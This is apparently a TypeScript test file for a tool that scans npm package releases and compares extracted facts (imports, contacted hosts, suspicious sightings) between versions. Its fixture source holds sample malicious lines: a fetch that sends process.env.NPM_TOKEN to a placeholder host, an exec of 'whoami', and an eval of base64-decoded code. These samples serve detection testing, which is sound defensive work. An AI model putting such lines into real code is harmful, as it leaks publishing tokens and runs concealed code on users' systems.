import assert from "node:assert/strict";
import { test } from "node:test";
import { fileFacts } from "./files.ts";
import { packageFacts } from "./files-package.ts";
import { sharedWith, sharingTexts } from "./files-share.ts";

const source = (url: string): Buffer =>
  Buffer.from(`const fs = require("fs");
const { exec } = require("child_process");
exports.read = (path) => fs.readFileSync(path, "utf8");
exports.send = () => fetch("${url}", { body: process.env.NPM_TOKEN });
exports.run = () => exec("whoami");
exports.late = () => eval(atob("YWxlcnQoMSk="));
`);

const before = source("https://one.example/a");
const after = source("https://two.example/b");

test("facts that share their texts, and parts with the release before, are equal to those that share nothing", () => {
  const [old, now] = [fileFacts("index.js", before), fileFacts("index.js", after)];
  assert.ok(old.sightings.length > 3 && old.imports.length > 1);
  const sharing = sharingTexts();
  assert.deepEqual(sharing(old), old);
  assert.deepEqual(sharedWith(sharing(old), sharing(now)), now);
});

test("what did not change is the very same object in both, and what did is the new one", () => {
  const [old, now] = [fileFacts("index.js", before), fileFacts("index.js", after)];
  const both = sharedWith(old, now);
  assert.equal(both.imports, old.imports);
  const same = both.sightings.filter((one) => old.sightings.includes(one));
  assert.ok(same.length >= 3);
  assert.deepEqual(
    both.hosts.map(({ host }) => host),
    ["two.example"],
  );
});

const facts = (hosts: readonly string[]): ReturnType<typeof fileFacts> => ({
  ...fileFacts("a.js", Buffer.from("a()")),
  hosts: hosts.map((host) => ({ host, concealed: false, spot: { line: 1, column: 1, text: host, scope: "" } })),
});

test("a list of which some are gone and some are new is told rightly, whatever is before and after them", () => {
  const names = Array.from({ length: 30 }, (_, n) => `h${String(n).padStart(2, "0")}.example`);
  for (const [old, now] of [
    [names, names.filter((_, n) => n % 3 !== 0)],
    [names.slice(20), names],
    [names, names.slice(12)],
    [[], names],
    [names, []],
  ] as const)
    assert.deepEqual(sharedWith(facts(old), facts(now)), facts(now));
});

test("a release that is held beside another says what it says alone", async () => {
  const files = (index: Buffer): { path: string; executable: boolean; bytes: Buffer }[] => [
    { path: "package.json", executable: false, bytes: Buffer.from('{"name":"a","version":"1.0.0","main":"index.js"}') },
    { path: "index.js", executable: false, bytes: index },
    { path: "lib/copy.js", executable: false, bytes: before },
  ];
  const left = await packageFacts("", files(before));
  assert.deepEqual(await packageFacts("", files(after), { like: left }), await packageFacts("", files(after)));
});
